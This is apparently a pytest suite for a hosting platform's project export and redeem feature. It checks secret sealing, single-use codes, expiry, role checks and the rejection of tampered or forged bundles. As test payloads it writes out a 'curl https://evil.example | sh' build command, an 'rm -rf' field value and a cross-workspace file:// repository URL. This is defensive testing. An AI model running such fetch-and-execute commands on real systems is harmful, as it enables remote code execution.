"""Graduation through the API: a project (hosted repository, environments, variables, domains, cron, drains,
alerts) exported with a one-time code, redeemed into another workspace, deployed there; the bundle hides its
secrets and verifies with the code alone, as on another instance of the platform; single use, expiry, unknown
codes, tampering and roles."""
import base64
import json

import pytest
from cryptography.fernet import Fernet

from platform_app.models import (AlertRule, Component, CronJob, Deployment, Domain, Environment, EnvVar, Graduation,
                                 GraduationRedemption, LogDrain, Project)
from platform_app.services.env.crypto import decrypt
from platform_app.tasks.graduation import graduations_purge
from tests.conftest import hosted_repo
from tests.factories import MembershipFactory, WorkspaceFactory
from tests.platform_app.projects.factories import ProjectFactory

pytestmark = pytest.mark.django_db

SECRET_VALUE = "sk_live_do-not-leak-0123456789"


@pytest.fixture
def beta(alice):
    """A second workspace alice owns: where graduated projects go."""
    workspace = WorkspaceFactory(slug="beta", name="Beta")
    MembershipFactory(workspace=workspace, user=alice, role="owner")
    return workspace


@pytest.fixture
def project(workspace, alice_client, settings, tmp_path, httpserver):
    settings.ARTIFACT_ROOT, settings.BUILD_ROOT = tmp_path / "artifacts", tmp_path / "builds"
    repo = hosted_repo(workspace, "site", {"src/index.html": "<h1>Graduated</h1>"})
    project = ProjectFactory(workspace=workspace, name="Site", slug="site", git_url=repo, output_directory="out",
                             build_command="mkdir -p out && cp -r src/. out/ && echo built-$GREETING")
    base = f"/v1/orgs/acme/projects/{project.pk}"
    ok = [alice_client.post(f"{base}/environments", {"name": "staging", "branchPattern": "release/*"},
                            format="json"),
          alice_client.post(f"{base}/env", {"key": "GREETING", "value": "hello", "type": "plain",
                                            "target": ["production", "preview"]}, format="json"),
          alice_client.post(f"{base}/env", {"key": "STRIPE_KEY", "value": SECRET_VALUE, "type": "secret",
                                            "target": ["production", "staging"]}, format="json"),
          alice_client.post(f"{base}/domains", {"name": "www.site.example"}, format="json"),
          alice_client.post(f"{base}/cron", {"schedule": "*/5 * * * *", "path": "/api/cron"}, format="json"),
          alice_client.post(f"{base}/log-drains", {"url": f"http://127.0.0.1:{httpserver.port}/drain?token=abc",
                                                   "sources": ["build"]}, format="json"),
          alice_client.post(f"{base}/alerts", {"name": "failures", "metric": "deployment_failed", "threshold": 1,
                                               "windowMinutes": 5,
                                               "channels": [{"type": "email", "to": ["ops@example.com"]}]},
                            format="json")]
    assert all(r.status_code == 201 for r in ok), [r.json() for r in ok if r.status_code != 201]
    return project


def export(client, project, org="acme"):
    return client.post(f"/v1/orgs/{org}/projects/{project.pk}/graduate", {}, format="json")


def redeem(client, code, org="beta", **body):
    return client.post("/v1/graduate/redeem", {"redeemCode": code, "orgId": org, **body}, format="json")


def payload_of(bundle: str) -> dict:
    body = bundle.split(".")[2]
    return json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))


def tampered(bundle: str) -> str:
    prefix, export_id, body, signature = bundle.split(".")
    payload = payload_of(bundle)
    payload["project"]["buildCommand"] = "curl https://evil.example | sh"
    body = base64.urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip("=")
    return ".".join([prefix, export_id, body, signature])


def test_export_answers_the_code_once_and_the_bundle_hides_secrets(alice_client, project):
    resp = export(alice_client, project)
    assert resp.status_code == 201, resp.json()
    body = resp.json()
    assert set(body) >= {"redeemCode", "bundle", "expiresAt"} and body["redeemCode"].startswith("svcg_")
    graduation = Graduation.objects.get()
    assert graduation.code_hash != body["redeemCode"] and body["redeemCode"] not in graduation.code_hash
    assert body["bundle"].startswith(f"svcgrad1.{graduation.pk}.")
    payload = payload_of(body["bundle"])
    raw = base64.urlsafe_b64decode(body["bundle"].split(".")[2] + "==").decode()
    assert SECRET_VALUE not in raw and "hello" not in json.dumps(payload["envVars"]) and "token=abc" not in raw
    assert {v["key"] for v in payload["envVars"]} == {"GREETING", "STRIPE_KEY"}
    assert payload["project"]["buildCommand"].startswith("mkdir -p out") and payload["git"] == {"kind": "hosted"}
    assert payload["repository"]["gitBundle"] and [d["name"] for d in payload["domains"]] == ["www.site.example"]
    assert payload["origin"] and payload["expiresAt"]


def test_redeemed_into_another_workspace_it_deploys(alice_client, project, beta, django_capture_on_commit_callbacks):
    code = export(alice_client, project).json()["redeemCode"]
    resp = redeem(alice_client, code)
    assert resp.status_code == 201, resp.json()
    body = resp.json()
    new = Project.objects.get(pk=body["project"]["id"])
    assert new.workspace == beta and new.name == "Site" and new.slug != "site"  # the slug is the platform's
    assert body["project"]["orgId"] == beta.pk and new.build_command == project.build_command
    assert new.git_url.startswith("file://") and f"/{beta.pk}/" in new.git_url

    assert set(Environment.objects.filter(project=new, builtin=False).values_list("name", "branch_pattern")) == {
        ("staging", "release/*")}
    values = {v.key: (decrypt(v.value_encrypted), v.type, v.targets) for v in EnvVar.objects.filter(project=new)}
    assert values == {"GREETING": ("hello", "plain", ["production", "preview"]),
                      "STRIPE_KEY": (SECRET_VALUE, "secret", ["production", "staging"])}
    assert CronJob.objects.get(project=new).schedule == "*/5 * * * *"
    assert LogDrain.objects.get(project=new).url.endswith("/drain?token=abc")
    assert AlertRule.objects.get(project=new).channels == [{"type": "email", "to": ["ops@example.com"]}]
    # the original project's domain is a pending claim: the new project claims it too, and the first to verify
    # takes it (docs/domains.md)
    assert body["skipped"] == [] and Domain.objects.get(project=new).status == "pending"
    assert body["imported"] == {"environments": 1, "envVars": 2, "domains": 1, "cronJobs": 1, "logDrains": 1,
                                "alertRules": 1, "components": 0}
    secrets = body["secrets"]
    assert [s["id"] for s in secrets["cronJobs"]] == [CronJob.objects.get(project=new).pk]
    assert all(s["secret"] for kind in secrets.values() for s in kind)

    with django_capture_on_commit_callbacks(execute=True):
        resp = alice_client.post(f"/v1/orgs/beta/projects/{new.pk}/deployments", {"env": "production"},
                                 format="json")
    assert resp.status_code == 201, resp.json()
    deployment = Deployment.objects.get(project=new)
    assert deployment.status == "ready", deployment.error_message
    assert deployment.log_lines.filter(text="built-hello").exists()  # its variables came along


def test_a_code_is_single_use(alice_client, project, beta):
    code = export(alice_client, project).json()["redeemCode"]
    assert redeem(alice_client, code).status_code == 201
    resp = redeem(alice_client, code)
    assert resp.status_code == 409 and resp.json()["code"] == "already_redeemed"
    assert Project.objects.filter(workspace=beta).count() == 1


def test_an_expired_code_is_410_and_its_bundle_is_purged(alice_client, alice, as_user, project, beta, travel,
                                                         settings):
    settings.GRADUATION_TTL_HOURS = 1
    code = export(alice_client, project).json()["redeemCode"]
    travel(3601)
    alice_client = as_user(alice)  # a fresh access token, an hour later
    resp = redeem(alice_client, code)
    assert resp.status_code == 410 and resp.json()["code"] == "graduation_expired"
    assert graduations_purge() == 1 and Graduation.objects.get().bundle == ""
    assert redeem(alice_client, code).status_code == 410
    assert not Project.objects.filter(workspace=beta).exists()


def test_an_unknown_code_is_404(alice_client, project, beta):
    export(alice_client, project)
    resp = redeem(alice_client, "svcg_" + "x" * 43)
    assert resp.status_code == 404 and resp.json()["code"] == "not_found"


def test_a_changed_bundle_is_400(alice_client, project, beta):
    body = export(alice_client, project).json()
    resp = redeem(alice_client, body["redeemCode"], bundle=tampered(body["bundle"]))
    assert resp.status_code == 400 and resp.json()["code"] == "bundle_invalid"
    assert not Project.objects.filter(workspace=beta).exists() and Graduation.objects.get().redeemed_at is None
    assert redeem(alice_client, body["redeemCode"], bundle=body["bundle"]).status_code == 201  # the real one


def test_on_another_instance_the_bundle_verifies_with_the_code(alice_client, project, beta, settings,
                                                               django_capture_on_commit_callbacks):
    body = export(alice_client, project).json()
    # "another instance": it never saw the export, it has its own address and its own encryption key
    Graduation.objects.all().delete()
    Domain.objects.all().delete()
    settings.SITE_URL = "https://other-platform.example"
    settings.ENV_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
    code, bundle = body["redeemCode"], body["bundle"]

    assert redeem(alice_client, code).status_code == 404  # without the bundle there is nothing to redeem
    resp = redeem(alice_client, code, bundle=tampered(bundle))
    assert resp.status_code == 400 and resp.json()["code"] == "bundle_invalid"
    wrong = redeem(alice_client, "svcg_" + "y" * 43, bundle=bundle)
    assert wrong.status_code == 400 and wrong.json()["code"] == "bundle_invalid"

    resp = redeem(alice_client, code, bundle=bundle)
    assert resp.status_code == 201, resp.json()
    new = Project.objects.get(pk=resp.json()["project"]["id"])
    secret = EnvVar.objects.get(project=new, key="STRIPE_KEY")
    assert decrypt(secret.value_encrypted) == SECRET_VALUE  # under this instance's key
    domain = Domain.objects.get(project=new)  # recorded, to be verified here
    assert domain.name == "www.site.example" and domain.status == "pending" and not domain.verified
    again = redeem(alice_client, code, bundle=bundle)
    assert again.status_code == 409 and again.json()["code"] == "already_redeemed"

    with django_capture_on_commit_callbacks(execute=True):
        alice_client.post(f"/v1/orgs/beta/projects/{new.pk}/deployments", {"env": "production"}, format="json")
    assert Deployment.objects.get(project=new).status == "ready"


def test_an_expired_bundle_is_410_on_another_instance(alice_client, alice, as_user, project, beta, settings,
                                                      travel):
    body = export(alice_client, project).json()
    Graduation.objects.all().delete()
    settings.SITE_URL = "https://other-platform.example"
    travel(25 * 3600)
    resp = redeem(as_user(alice), body["redeemCode"], bundle=body["bundle"])
    assert resp.status_code == 410 and resp.json()["code"] == "graduation_expired"


def test_a_git_url_keeps_its_credential_sealed(alice_client, workspace, beta):
    project = ProjectFactory(workspace=workspace, slug="private",
                             git_url="https://user:ghp_secret@git.example.com/a/b.git")
    body = export(alice_client, project).json()
    assert "ghp_secret" not in base64.urlsafe_b64decode(body["bundle"].split(".")[2] + "==").decode()
    resp = redeem(alice_client, body["redeemCode"])
    assert resp.status_code == 201, resp.json()
    assert Project.objects.get(pk=resp.json()["project"]["id"]).git_url == project.git_url
    assert resp.json()["project"]["gitUrl"] == "https://git.example.com/a/b.git"


def test_only_admins_of_the_target_workspace_redeem(alice_client, as_user, as_token, alice, bob, charlie, project,
                                                     beta):
    code = export(alice_client, project).json()["redeemCode"]
    developer = redeem(as_user(bob), code, org="acme")
    assert developer.status_code == 403 and developer.json()["code"] == "forbidden"
    assert redeem(as_user(charlie), code, org="beta").status_code == 404  # not a member
    bound = as_token(alice, scopes=["admin"], workspace=project.workspace)
    assert redeem(bound, code, org="beta").status_code == 404  # a token bound to another workspace
    assert redeem(as_token(alice, scopes=["read"]), code).status_code == 403
    assert export(as_user(bob), project).status_code == 403
    assert export(as_user(charlie), project).status_code == 404
    assert Graduation.objects.get().redeemed_at is None
    assert redeem(alice_client, code).status_code == 201


def test_bad_input_is_400(alice_client, beta):
    assert redeem(alice_client, "").status_code == 400
    assert alice_client.post("/v1/graduate/redeem", {"orgId": "beta"}, format="json").status_code == 400
    resp = alice_client.post("/v1/graduate/redeem", {"redeemCode": "x", "orgId": "beta", "extra": 1}, format="json")
    assert resp.status_code == 400
    resp = redeem(alice_client, "svcg_x", bundle="not-a-bundle")
    assert resp.status_code == 400 and resp.json()["code"] == "bundle_invalid"


def forged(code: str, export_id: str = "grd_forged000000000000", **parts) -> str:
    """A bundle anyone could make with a code of their own: valid signature, content of their choosing."""
    from platform_app.services.resources.graduation import Seal, bundle_pack

    seal = Seal(code, export_id)
    payload = {"format": "svc-graduation/1", "id": export_id, "origin": "https://elsewhere.example",
               "expiresAt": "2999-01-01T00:00:00+00:00",
               "project": {"name": "Forged", "slug": "forged", "framework": "", "buildCommand": "make"},
               "git": {"kind": "url", "url": "https://git.example.com/forged.git"}, **parts}
    for drain in payload.get("logDrains", []):
        drain["urlSealed"] = seal.seal(drain.pop("url"))
    for var in payload.get("envVars", []) if isinstance(payload.get("envVars"), list) else []:
        var["value"] = seal.seal(var["value"])
    return bundle_pack(code=code, export_id=export_id, payload=payload)


def test_a_bundle_from_elsewhere_is_checked_like_user_input(alice_client, beta, settings):
    settings.OUTBOUND_ALLOWED_NETWORKS = []
    code = "svcg_" + "f" * 43
    for bad in ({"git": {"kind": "url", "url": "file:///srv/git/other-workspace/repo.git"}},
                {"git": {"kind": "provider", "provider": "git-z", "repo": "a/b"}},
                {"project": {"name": "Forged", "framework": "rm -rf"}},
                {"envVars": "not a list"}):
        resp = redeem(alice_client, code, bundle=forged(code, **bad))
        assert resp.status_code == 400 and resp.json()["code"] == "bundle_invalid", (bad, resp.json())
    assert not Project.objects.filter(workspace=beta).exists()

    resp = redeem(alice_client, code, bundle=forged(
        code, envVars=[{"key": "OK", "value": "1", "targets": ["production"]}],
        alertRules=[{"name": "a", "metric": "deployment_failed", "threshold": 1, "windowMinutes": 5,
                     "channelsSealed": "not-sealed"}]))
    assert resp.status_code == 400  # a sealed part the code does not open: forged
    # what the API refuses, the bundle may not carry: the whole bundle is refused, naming the part and field
    for part, item, field in (
            ("envVars", {"key": "NOWHERE", "value": "1", "targets": ["moon"]}, "target"),
            ("envVars", {"key": "bad key", "value": "1", "targets": ["production"]}, "key"),
            ("cronJobs", {"schedule": "not cron", "path": "/x"}, "schedule"),
            ("cronJobs", {"schedule": "* * * * *", "path": "/x", "retries": 9}, "retries"),
            ("environments", {"name": "Not A Name"}, "name"),
            ("logDrains", {"url": "https://drain.example/in", "sources": ["moon"]}, "sources")):
        parts = {"envVars": [{"key": "OK", "value": "1", "targets": ["production"]}], part: [item]}
        resp = redeem(alice_client, code, bundle=forged(code, **parts))
        body = resp.json()
        assert resp.status_code == 400 and body["code"] == "bundle_invalid", (part, item, body)
        assert body["details"]["resource"] == part and body["details"]["index"] == 0, body
        assert field in body["details"]["fields"] and part in body["message"], body
    assert not Project.objects.filter(workspace=beta).exists() and not EnvVar.objects.exists()

    # a drain this platform's outbound guard refuses is this platform's policy, not a bad bundle: skipped
    resp = redeem(alice_client, code, bundle=forged(
        code, envVars=[{"key": "OK", "value": "1", "targets": ["production"]}],
        logDrains=[{"url": "https://10.0.0.7/in?token=t0k3n", "sources": ["build"]}]))
    assert resp.status_code == 201, resp.json()
    body = resp.json()
    assert {(s["kind"], s["name"]) for s in body["skipped"]} == {("log_drains", "10.0.0.7")}
    assert "t0k3n" not in json.dumps(body)
    new = Project.objects.get(pk=body["project"]["id"])
    assert new.git_url == "https://git.example.com/forged.git" and list(
        EnvVar.objects.filter(project=new).values_list("key", flat=True)) == ["OK"]


# Components: the API's rules and the workspace's plan ---------------------------------------------

# as the components API names the fields (a bundle made before camelCase is read the same)
WEB = {"name": "web", "kind": "web", "start_command": "python3 app.py", "instance_size": "standard", "instances": 2}


@pytest.mark.parametrize("bad,field", [
    ({"instances": 100000}, "instances"),
    ({"instance_size": "mega-x"}, "instanceSize"),
    ({"name": "Web Server!!"}, "name"),
    ({"health_check_path": "nope"}, "healthCheckPath"),
    ({"replicas": 2}, "replicas"),
    ({"name": "Web Server!!", "instances": 100000, "instance_size": "mega-x", "health_check_path": "nope"}, None),
])
def test_a_made_up_component_refuses_the_whole_bundle(alice_client, beta, bad, field):
    code = "svcg_" + "m" * 43
    resp = redeem(alice_client, code, bundle=forged(
        code, envVars=[{"key": "OK", "value": "1", "targets": ["production"]}],
        environments=[{"name": "staging"}], components=[{**WEB, **bad}]))
    body = resp.json()
    assert resp.status_code == 400 and body["code"] == "bundle_invalid", body
    assert body["details"]["resource"] == "components" and body["details"]["index"] == 0, body
    assert body["details"]["name"] == bad.get("name", "web")
    assert field is None or field in body["details"]["fields"], body
    assert body["details"]["fields"] and "components" in body["message"]
    assert not Project.objects.filter(workspace=beta).exists()
    assert not (Component.objects.exists() or EnvVar.objects.exists() or Environment.objects.filter(
        name="staging").exists() or GraduationRedemption.objects.exists())


def test_a_bundle_at_the_plan_limit_is_redeemed_one_past_it_is_not(alice_client, beta):
    code = "svcg_" + "p" * 43
    worker = {"name": "jobs", "kind": "worker", "start_command": "python3 jobs.py", "instances": 2}
    resp = redeem(alice_client, code, bundle=forged(code, components=[WEB, worker]))  # 4 on a plan of 3
    body = resp.json()
    assert resp.status_code == 402 and body["code"] == "plan_limit", body
    assert body["details"] == {"plan": "free", "limit": 3, "used": 2, "resource": "components", "index": 1,
                               "name": "jobs"}
    assert not Project.objects.filter(workspace=beta).exists() and not Component.objects.exists()

    resp = redeem(alice_client, code, bundle=forged(code, components=[WEB, {**worker, "instances": 1}]))
    assert resp.status_code == 201, resp.json()
    assert resp.json()["imported"]["components"] == 2
    made = {c.name: (c.kind, c.instance_size, c.instances, c.health_check_path)
            for c in Component.objects.filter(project__workspace=beta)}
    assert made == {"web": ("web", "standard", 2, "/"), "jobs": ("worker", "starter", 1, "")}


def test_components_graduate_with_their_settings(alice_client, workspace, beta):
    workspace.plan = "pro"
    workspace.save()
    project = ProjectFactory(workspace=workspace, slug="svc", git_url="https://git.example.com/svc.git")
    made = alice_client.post(f"/v1/orgs/acme/projects/{project.pk}/components",
                             {**WEB, "build_command": "make", "health_check_path": "/up"}, format="json")
    assert made.status_code == 201, made.json()
    code = export(alice_client, project).json()["redeemCode"]
    resp = redeem(alice_client, code)
    assert resp.status_code == 201, resp.json()
    component = Component.objects.get(project__workspace=beta)
    assert (component.name, component.kind, component.start_command, component.build_command,
            component.instance_size, component.instances, component.health_check_path) == (
        "web", "web", "python3 app.py", "make", "standard", 2, "/up")
